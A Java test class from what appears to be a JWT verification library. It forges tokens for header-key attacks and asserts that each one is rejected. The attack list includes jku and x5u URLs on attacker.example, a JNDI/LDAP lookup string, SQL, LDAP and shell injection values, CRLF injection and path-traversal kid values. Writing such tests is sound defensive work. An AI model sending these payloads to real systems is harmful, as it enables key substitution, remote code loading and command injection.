package signet.jose.attack;

import static org.assertj.core.api.Assertions.assertThat;
import static signet.jose.reject.RejectReason.BAD_SIGNATURE;
import static signet.jose.reject.RejectReason.KEY_MISMATCH;
import static signet.jose.reject.RejectReason.UNKNOWN_KID;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;
import signet.jose.jwt.JwtVerifier;
import signet.jose.jwt.Verification;
import signet.jose.reject.RejectReason;
import signet.testkit.forge.ForgeKey;
import signet.testkit.forge.PublicForms;
import signet.testkit.forge.TokenForge;

/** Family {@code header-key}: the header brings or names the key (RFC 8725 §3.10). */
final class HeaderKeyAttacks {
  private final Victim victim;
  private final List<Attack> attacks = new ArrayList<>();

  private HeaderKeyAttacks(Victim victim) {
    this.victim = victim;
  }

  static Stream<Attack> of(Victim victim) {
    HeaderKeyAttacks all = new HeaderKeyAttacks(victim);
    all.embeddedJwk();
    all.embeddedSecret();
    all.remoteKeys();
    all.certificates();
    all.traversal();
    all.injection();
    all.sharedKid();
    return all.attacks.stream();
  }

  /** Signed by the attacker, once under the victim's {@code kid} and once under its own. */
  private void byAttacker(String id, String name, TokenForge forge) {
    add(id, name, forge.signedBy(victim.attacker), BAD_SIGNATURE);
    TokenForge own = forge.header("kid", "attackers-own");
    add(id, name + ", kid of its own", own.signedBy(victim.attacker), UNKNOWN_KID);
  }

  private void embeddedJwk() {
    byAttacker("B01", "jwk", victim.forge().header("jwk", victim.attacker.jwkMembers()));
  }

  private void embeddedSecret() {
    ForgeKey secret = ForgeKey.generate("HS256").withKid(victim.key.kid());
    String token = victim.forge(secret).header("jwk", secret.jwkMembers()).sign();
    RejectReason reason = "HS256".equals(victim.alg) ? BAD_SIGNATURE : KEY_MISMATCH;
    add("B02", "jwk of a secret", token, reason);
  }

  private void remoteKeys() {
    for (String url :
        List.of(
            "https://attacker.example/jwks.json",
            Victim.ISSUER + "@attacker.example/jwks.json",
            Victim.ISSUER + ".attacker.example/jwks.json",
            Victim.ISSUER + "/redirect?to=https://attacker.example/jwks.json",
            "file:///dev/stdin",
            "ftp://attacker.example/jwks.json",
            "data:application/json,%7B%22keys%22%3A%5B%5D%7D")) {
      byAttacker("B03", "jku " + url, victim.forge().header("jku", url));
    }
  }

  private void certificates() {
    TokenForge forge = victim.forge();
    byAttacker("B04", "x5u", forge.header("x5u", "https://attacker.example/chain.pem"));
    if (!victim.isSymmetric()) {
      String leaf = Base64.getEncoder().encodeToString(PublicForms.certificate(victim.attacker));
      String other = Base64.getEncoder().encodeToString(PublicForms.certificate(victim.key));
      byAttacker("B04", "x5c signed by itself", forge.header("x5c", List.of(leaf)));
      byAttacker("B04", "x5c in a broken order", forge.header("x5c", List.of(other, leaf)));
      byAttacker(
          "B04",
          "x5c that does not match jwk",
          forge.header("x5c", List.of(other)).header("jwk", victim.attacker.jwkMembers()));
    }
  }

  private void traversal() {
    for (String kid :
        List.of("../../../../dev/null", "/dev/null", "/invalid_path", "file:///dev/null", "")) {
      for (byte[] secret : List.of(new byte[0], new byte[32])) {
        ForgeKey empty = ForgeKey.secret("HS256", secret).withKid(kid);
        String name = "kid \"" + kid + "\" keyed by " + (secret.length == 0 ? "nothing" : "NULs");
        add("B05", name, victim.forge(empty).sign(), UNKNOWN_KID);
      }
    }
  }

  private void injection() {
    ForgeKey one = ForgeKey.secret("HS256", "1".getBytes(StandardCharsets.US_ASCII));
    List<String> kids =
        List.of(
            "x' UNION SELECT '1';-- ",
            "*)(uid=*))(|(uid=*",
            "|sleep 10",
            "$(id)",
            "${jndi:ldap://attacker.example/a}",
            "key\r\nSet-Cookie: a=b",
            "key\u0000" + victim.key.kid(),
            victim.key.kid() + " ",
            "k".repeat(4000));
    for (String kid : kids) {
      String shown = kid.length() > 60 ? "of " + kid.length() + " letters" : printable(kid);
      add("B06", "kid " + shown, victim.forge(one.withKid(kid)).sign(), UNKNOWN_KID);
    }
    String control = victim.forge(one.withKid("a\r\nb\u001b[31m" + "k".repeat(3000))).sign();
    attacks.add(new Attack("B06", "kid is shown escaped and cut", () -> escaped(control)));
  }

  private void escaped(String token) {
    Verification verification = victim.wide.verify(token);
    assertThat(verification).isInstanceOf(Verification.Rejected.class);
    Verification.Rejected rejected = (Verification.Rejected) verification;
    String kid = rejected.unverifiedKid().orElseThrow();
    assertThat(kid).startsWith("a??b?[31mk").hasSizeLessThanOrEqualTo(67);
    assertThat(kid.chars()).allMatch(c -> c >= 0x20 && c < 0x7f);
    assertThat(rejected.detail()).doesNotContain("kkkk");
  }

  /** Two keys of one {@code kid} must not let one key's token pass by the other. */
  private void sharedKid() {
    String familiar = "ES256".equals(victim.alg) ? "Ed25519" : "ES256";
    ForgeKey foreign = ForgeKey.generate(familiar).withKid(victim.key.kid());
    JwtVerifier mixed = victim.wide(foreign.jwk(), victim.key.jwk());
    String relabelled = victim.forge(foreign).header("alg", victim.alg).sign();
    attacks.add(
        Attack.token("B08", "signed by the kid's other key", mixed, relabelled, BAD_SIGNATURE));
    JwtVerifier twins = victim.wide(victim.key.jwk(), victim.attacker.jwk());
    String ambiguous = victim.forge(victim.attacker).sign();
    attacks.add(
        Attack.token("B08", "two keys of one kid and algorithm", twins, ambiguous, KEY_MISMATCH));
    ForgeKey own = foreign.withKid("foreign");
    String crossed = victim.forge(own.withKid(victim.key.kid())).sign();
    attacks.add(
        Attack.token(
            "B08",
            "kid of a key of another family",
            victim.wide(victim.key.jwk(), own.jwk()),
            crossed,
            KEY_MISMATCH));
  }

  private void add(String id, String name, String token, RejectReason reason) {
    attacks.add(Attack.token(id, name, victim.wide, token, reason));
  }

  private static String printable(String text) {
    return text.replace("\r", "\\r").replace("\n", "\\n").replace("\u0000", "\\0");
  }
}
